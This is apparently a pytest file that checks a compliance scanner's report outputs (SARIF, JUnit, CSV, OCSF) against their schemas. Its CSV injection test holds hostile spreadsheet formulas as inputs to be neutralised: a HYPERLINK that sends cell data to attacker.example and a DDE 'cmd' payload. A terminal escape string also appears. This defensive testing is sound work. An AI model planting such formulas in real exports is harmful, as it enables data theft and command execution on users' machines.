"""Machine formats against their published schemas (stored in tests/fixtures/reports/schemas):
SARIF 2.1.0, the Ant JUnit XSD, OCSF 1.3.0 Compliance Finding; CSV round-trips exactly."""

from __future__ import annotations

import csv
import io
import json
import shutil
import subprocess
import sys
import xml.etree.ElementTree as ET
from pathlib import Path

import jsonschema
import pytest

from secpolicy.reports import RENDERERS, build_report, render_results
from secpolicy.reports.csv_ import COLUMNS

FIX = Path(__file__).resolve().parents[1] / "fixtures" / "reports"
SCHEMAS = FIX / "schemas"
sys.path.insert(0, str(SCHEMAS))
from ocsf_jsonschema import compliance_finding_schema


@pytest.fixture(scope="module")
def results() -> dict:
    return json.loads((FIX / "web1_results.json").read_text())


def _render(results: dict, fmt: str) -> str:
    out = io.StringIO(newline="")
    RENDERERS[fmt](build_report(results), out)
    return out.getvalue()


# SARIF ------------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def sarif_validator() -> jsonschema.Draft4Validator:
    schema = json.loads((SCHEMAS / "sarif-schema-2.1.0.json").read_text())
    return jsonschema.Draft4Validator(schema, format_checker=jsonschema.Draft4Validator.FORMAT_CHECKER)


def test_sarif_validates_against_the_oasis_schema(results, sarif_validator):
    doc = json.loads(_render(results, "sarif"))
    assert [e.message for e in sarif_validator.iter_errors(doc)] == []


def test_sarif_validator_is_not_a_rubber_stamp(results, sarif_validator):
    doc = json.loads(_render(results, "sarif"))
    doc["runs"][0]["results"][0]["level"] = "fatal"
    del doc["runs"][0]["tool"]["driver"]["name"]
    messages = sorted(e.message for e in sarif_validator.iter_errors(doc))
    assert any("'fatal' is not one of" in m for m in messages)
    assert any("'name' is a required property" in m for m in messages)


def test_sarif_results_say_what_code_scanning_needs(results):
    run = json.loads(_render(results, "sarif"))["runs"][0]
    by_id = {r["ruleId"]: r for r in run["results"]}
    # Only problems are results (GitHub turns every result into an alert, whatever its kind).
    assert set(by_id) == {
        "cis.audit.sudoers_watch", "cis.files.shadow_mode", "cis.ssh.ciphers",
        "pci.auth.pw_minlen", "cis.ssh.max_auth_tries", "hipaa.access.auto_logoff",
    }
    assert all(r["kind"] == "fail" for r in run["results"])
    assert by_id["cis.ssh.ciphers"]["level"] == "error"  # high
    assert by_id["cis.ssh.max_auth_tries"]["level"] == "warning"  # medium
    assert run["properties"]["by_status"] == results["summary"]["by_status"]
    assert [w["rule_id"] for w in run["properties"]["waived"]] == ["cis.ssh.permit_root_login", "pci.time.ntp"]
    assert run["properties"]["waived"][0]["justification"].startswith("Break-glass access")
    loc = by_id["cis.ssh.max_auth_tries"]["locations"][0]["physicalLocation"]
    assert loc == {"artifactLocation": {"uri": "policies/cis/ssh.yaml"}, "region": {"startLine": 77}}
    # `/etc/ssh/sshd_config:52` is free text: a file may be named `sshd_config:52`, so it is
    # no location (the evidence message keeps it); a source that can only be one file is one.
    assert "relatedLocations" not in by_id["cis.ssh.max_auth_tries"]
    rel = by_id["cis.files.shadow_mode"]["relatedLocations"]
    assert [r["physicalLocation"] for r in rel] == [{"artifactLocation": {"uri": "file:///etc/shadow"}}] * 2
    rules = run["tool"]["driver"]["rules"]
    assert [r["id"] for r in rules] == sorted(r["rule_id"] for r in results["results"])
    assert all(rules[r["ruleIndex"]]["id"] == r["ruleId"] for r in run["results"])
    assert rules[[r["id"] for r in rules].index("cis.ssh.ciphers")]["properties"]["security-severity"] == "8.0"
    note = run["invocations"][0]["toolExecutionNotifications"][0]
    assert note["associatedRule"]["id"] == "cis.audit.sudoers_watch"
    assert run["invocations"][0]["executionSuccessful"] is False


# JUnit ------------------------------------------------------------------------------------
def test_junit_validates_against_the_xsd(results, tmp_path):
    xmllint = shutil.which("xmllint")
    if xmllint is None:
        pytest.fail("xmllint (libxml2-utils) is needed to check JUnit output against its XSD")
    out = tmp_path / "junit.xml"
    out.write_text(_render(results, "junit"), encoding="utf-8")
    proc = subprocess.run([xmllint, "--noout", "--schema", str(SCHEMAS / "JUnit.xsd"), str(out)],
                          capture_output=True, text=True, check=False)
    assert proc.returncode == 0, proc.stderr
    # The same check fails on a document the XSD forbids (no <properties>).
    broken = out.read_text().replace("<properties>", "<x>", 1).replace("</properties>", "</x>", 1)
    out.write_text(broken)
    proc = subprocess.run([xmllint, "--noout", "--schema", str(SCHEMAS / "JUnit.xsd"), str(out)],
                          capture_output=True, text=True, check=False)
    assert proc.returncode != 0


def test_junit_has_one_case_per_rule_with_failures_and_errors_distinct(results):
    root = ET.fromstring(_render(results, "junit"))
    cases = root.findall("./testsuite/testcase")
    assert len(cases) == len(results["results"])
    failed = {c.get("name").split(":")[0] for c in cases if c.find("failure") is not None}
    errored = {c.get("name").split(":")[0] for c in cases if c.find("error") is not None}
    skipped = {c.get("name").split(":")[0] for c in cases if c.find("skipped") is not None}
    assert failed == {"cis.files.shadow_mode", "cis.ssh.ciphers", "pci.auth.pw_minlen",
                      "cis.ssh.max_auth_tries", "hipaa.access.auto_logoff"}
    assert errored == {"cis.audit.sudoers_watch"}
    assert skipped == {"cis.ssh.permit_root_login", "pci.time.ntp", "cis.fs.tmp_noexec", "hipaa.audit.auditd_running"}
    suites = {s.get("name"): s for s in root.findall("testsuite")}
    cis = suites["cis-debian12"]
    assert (cis.get("tests"), cis.get("failures"), cis.get("errors"), cis.get("skipped")) == ("9", "3", "1", "2")
    err = next(c for c in cases if c.get("name").startswith("cis.audit.sudoers_watch")).find("error")
    assert err.get("message") == "cannot read /etc/audit/rules.d: Permission denied"
    assert "/etc/audit/rules.d" in err.text


def test_junit_survives_control_characters_in_evidence(results):
    doc = json.loads(json.dumps(results))
    doc["results"][1]["evidence"][0]["observed"] = "bell\x07 and nul\x00"
    root = ET.fromstring(_render(doc, "junit"))  # would raise on a raw control character
    text = "".join(root.itertext())
    assert "bell\\x07 and nul\\x00" in text


# CSV --------------------------------------------------------------------------------------
def test_csv_round_trips_through_the_csv_module(results):
    text = _render(results, "csv")
    assert "\r\n" in text
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert tuple(rows[0]) == COLUMNS
    body = {r[0]: dict(zip(COLUMNS, r)) for r in rows[1:]}
    assert set(body) == {r["rule_id"] for r in results["results"]}
    pw = body["pci.auth.pw_minlen"]
    src = next(r for r in results["results"] if r["rule_id"] == "pci.auth.pw_minlen")
    assert pw["title"] == src["title"]
    assert pw["evidence"].splitlines()[1] == (
        'login_defs["PASS_MIN_LEN"] >= 12: expected >= 12, observed "8", "quoted, with comma"'
    )
    assert pw["evidence"].splitlines()[2] == "and a second line (at /etc/login.defs:160)"
    assert body["cis.ssh.permit_root_login"]["waiver_approver"] == "Maria Keller (CISO)"
    assert all(len(r) == len(COLUMNS) for r in rows)


@pytest.mark.parametrize("value", [
    '=HYPERLINK("http://attacker.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-rw-r--r--", "@SUM(1+1)",
    "\tleading tab", "'already quoted",
])
def test_csv_cells_that_would_run_as_formulas_are_neutralised(results, value):
    """OWASP CSV injection: a cell starting = + - @ TAB or CR gets a leading `'` (and so does
    one starting with `'`, so dropping one leading `'` always restores the value)."""
    doc = json.loads(json.dumps(results))
    r = doc["results"][0]
    r["title"] = value
    r["remediation"] = value
    text = _render(doc, "csv")
    row = next(x for x in csv.reader(io.StringIO(text, newline="")) if x[0] == r["rule_id"])
    cells = dict(zip(COLUMNS, row))
    for col in ("title", "remediation"):
        assert cells[col] == "'" + value
        assert cells[col][1:] == value
    ordinary = next(x for x in csv.reader(io.StringIO(text, newline="")) if x[0] != r["rule_id"] and x[0] != "rule_id")
    assert not any(c.startswith("'") for c in ordinary)


def test_csv_cells_keep_no_raw_control_characters(results):
    """A CR (which would also start a formula) or ESC from the host is shown as its escape,
    as on every output: the cell no longer starts a formula, and `cat` cannot be steered."""
    doc = json.loads(json.dumps(results))
    doc["results"][0]["title"] = "\rleading CR \x1b]0;owned\x07"
    text = _render(doc, "csv")
    row = next(x for x in csv.reader(io.StringIO(text, newline="")) if x[0] == doc["results"][0]["rule_id"])
    assert dict(zip(COLUMNS, row))["title"] == "\\x0dleading CR \\x1b]0;owned\\x07"


# OCSF -------------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def ocsf_validator() -> jsonschema.Draft202012Validator:
    return jsonschema.Draft202012Validator(compliance_finding_schema())


def test_ocsf_events_validate_against_the_compliance_finding_class(results, ocsf_validator):
    events = json.loads(_render(results, "ocsf"))
    assert len(events) == len(results["results"])
    for ev in events:
        assert [e.message for e in ocsf_validator.iter_errors(ev)] == [], ev["finding_info"]["uid"]


def test_ocsf_class_schema_rejects_what_ocsf_forbids(results, ocsf_validator):
    ev = json.loads(_render(results, "ocsf"))[0]
    bad = json.loads(json.dumps(ev))
    del bad["finding_info"]["title"]
    bad["compliance"]["status_id"] = 7
    bad["not_an_ocsf_attribute"] = 1
    bad["class_uid"] = 2001
    messages = [e.message for e in ocsf_validator.iter_errors(bad)]
    assert any("'title' is a required property" in m for m in messages)
    assert any("7 is not one of" in m for m in messages)
    assert any("not_an_ocsf_attribute" in m for m in messages)
    assert any("2003 was expected" in m for m in messages)


def test_ocsf_maps_statuses(results):
    by_control = {e["compliance"]["control"]: e for e in json.loads(_render(results, "ocsf"))}
    assert by_control["cis.ssh.ciphers"]["compliance"]["status_id"] == 3
    assert by_control["cis.kernel.aslr"]["compliance"]["status_id"] == 1
    assert by_control["cis.audit.sudoers_watch"]["compliance"]["status_id"] == 2
    assert by_control["cis.fs.tmp_noexec"]["compliance"]["status"] == "Not Applicable"
    waived = by_control["cis.ssh.permit_root_login"]
    assert (waived["status_id"], waived["compliance"]["status_id"]) == (3, 3)
    assert waived["compliance"]["standards"] == ["cis", "pci-dss"]
    assert waived["severity_id"] == 4 and waived["type_uid"] == 200301


# JSON -------------------------------------------------------------------------------------
def test_json_report_is_the_results_document(results, tmp_path):
    out = tmp_path / "r.json"
    render_results(results, "json", str(out))
    assert json.loads(out.read_text()) == results


# Edges ------------------------------------------------------------------------------------
def _empty(results: dict) -> dict:
    doc = json.loads(json.dumps(results))
    doc.update(results=[], waivers=[], errors=[], coverage={})
    for k in ("fim", "events", "lost_events"):
        doc.pop(k)
    doc["summary"] = {"total": 0, "by_status": dict.fromkeys(("pass", "fail", "error", "not_applicable", "waived", "skipped"), 0),
                      "by_severity": {}, "frameworks": {}, "compliance_pct": None}
    return doc


def test_a_scan_with_no_rules_renders_in_every_format(results, sarif_validator):
    report = build_report(_empty(results))
    for fmt, render in RENDERERS.items():
        out = io.BytesIO() if fmt == "pdf" else io.StringIO()
        render(report, out)
        assert out.getvalue(), fmt
    text = io.StringIO()
    RENDERERS["sarif"](report, text)
    assert list(sarif_validator.iter_errors(json.loads(text.getvalue()))) == []
    html = io.StringIO()
    RENDERERS["html"](report, html)
    assert "n/a" in html.getvalue() and "0 of 0 controls shown" in html.getvalue()


class _Tty(io.StringIO):
    def isatty(self) -> bool:
        return True


def test_pdf_is_refused_on_a_terminal_and_text_formats_go_to_stdout(results):
    from secpolicy.errors import InputError

    with pytest.raises(InputError, match="refusing to write a PDF to a terminal"):
        render_results(results, "pdf", None, stdout=_Tty())
    out = _Tty()
    render_results(results, "csv", None, stdout=out)
    assert out.getvalue().startswith("rule_id,title,")
    with pytest.raises(InputError, match="unknown report format 'docx'"):
        render_results(results, "docx", None, stdout=out)


def test_an_unwritable_output_is_invalid_input_and_leaves_nothing(results, tmp_path):
    from secpolicy.errors import InputError

    with pytest.raises(InputError, match="cannot write"):
        render_results(results, "html", str(tmp_path / "no" / "such" / "dir" / "r.html"))
    assert list(tmp_path.iterdir()) == []


def test_every_sarif_result_has_a_location_even_without_a_rule_source(results, sarif_validator):
    doc = json.loads(json.dumps(results))
    for r in doc["results"]:
        r["source"] = None
    for p in doc["scan"]["policies"]:
        p.pop("path")
    sarif = json.loads(_render(doc, "sarif"))
    assert list(sarif_validator.iter_errors(sarif)) == []
    locs = {r["ruleId"]: r["locations"][0]["physicalLocation"] for r in sarif["runs"][0]["results"]}
    assert locs["cis.files.shadow_mode"] == {"artifactLocation": {"uri": "file:///etc/shadow"}}
    # `path:52` and a glob are not one file for sure: the policy by name, never a made-up file
    assert locs["cis.ssh.max_auth_tries"] == {"artifactLocation": {"uri": "cis-debian12"}}
    assert locs["hipaa.access.auto_logoff"] == {"artifactLocation": {"uri": "hipaa-linux"}}


def _sarif_of(results: dict, sources: list[str], rule_source: str | None = "policies/cis/ssh.yaml:77") -> dict:
    """The SARIF result of cis.ssh.max_auth_tries with one evidence item per source."""
    doc = json.loads(json.dumps(results))
    r = next(r for r in doc["results"] if r["rule_id"] == "cis.ssh.max_auth_tries")
    r["evidence"] = [dict(r["evidence"][0], source=s) for s in sources]
    r["source"] = rule_source
    sarif = json.loads(_render(doc, "sarif"))
    return next(x for x in sarif["runs"][0]["results"] if x["ruleId"] == "cis.ssh.max_auth_tries")


def test_sarif_percent_encodes_the_bytes_of_an_undecodable_file_name(results, sarif_validator):
    # A file named b"bad\xff\xfeutf8" reaches the results as lone surrogates (surrogateescape).
    doc = json.loads(json.dumps(results))
    r = next(r for r in doc["results"] if r["rule_id"] == "cis.ssh.max_auth_tries")
    r["evidence"][0]["source"] = "/data/bad\udcff\udcfeutf8"
    sarif = json.loads(_render(doc, "sarif"))
    assert list(sarif_validator.iter_errors(sarif)) == []
    res = next(x for x in sarif["runs"][0]["results"] if x["ruleId"] == "cis.ssh.max_auth_tries")
    assert res["relatedLocations"][0]["physicalLocation"] == {"artifactLocation": {"uri": "file:///data/bad%FF%FEutf8"}}


@pytest.mark.parametrize("source", [
    "/data/a:0",  # a file named `a:0`, not line 0 of `a`
    "/data/x:12",  # a file named `x:12`, not line 12 of `x`
    "/data/+plus, /data/=cmd, /data/a, /data/b, /data/c and 4 more",  # several files
    "/etc/profile.d/*.sh",  # a glob
    "/etc/audit/rules.d (3 entries walked)",
    "systemctl is-enabled rsyslog",
])
def test_sarif_takes_no_location_out_of_free_text_evidence(results, sarif_validator, source):
    res = _sarif_of(results, [source])
    assert "relatedLocations" not in res
    assert res["locations"] == [{"physicalLocation": {"artifactLocation": {"uri": "policies/cis/ssh.yaml"},
                                                      "region": {"startLine": 77}}}]
    without_rule = _sarif_of(results, [source], rule_source=None)
    assert without_rule["locations"] == [{"physicalLocation": {"artifactLocation": {"uri": "policies/cis/debian12.yaml"}}}]


def test_sarif_rule_location_is_the_last_colon_line_and_only_a_real_line(results, sarif_validator):
    loc = _sarif_of(results, [], rule_source="pol/a:0/p.yaml:3")["locations"][0]["physicalLocation"]
    assert loc == {"artifactLocation": {"uri": "pol/a%3A0/p.yaml"}, "region": {"startLine": 3}}
    loc = _sarif_of(results, [], rule_source="p.yaml:0")["locations"][0]["physicalLocation"]
    assert loc == {"artifactLocation": {"uri": "p.yaml"}}  # no line 0: regions start at 1
    doc = json.loads(json.dumps(results))
    for r in doc["results"]:
        r["source"] = "p.yaml:0"
        for e in r["evidence"]:
            e["source"] = "/data/a:0"
    assert list(sarif_validator.iter_errors(json.loads(_render(doc, "sarif")))) == []


def test_scan_offers_every_report_format():
    from secpolicy.cli.core import SCAN_FORMATS
    from secpolicy.reports import FORMATS

    assert set(SCAN_FORMATS) == {"table"} | set(FORMATS)
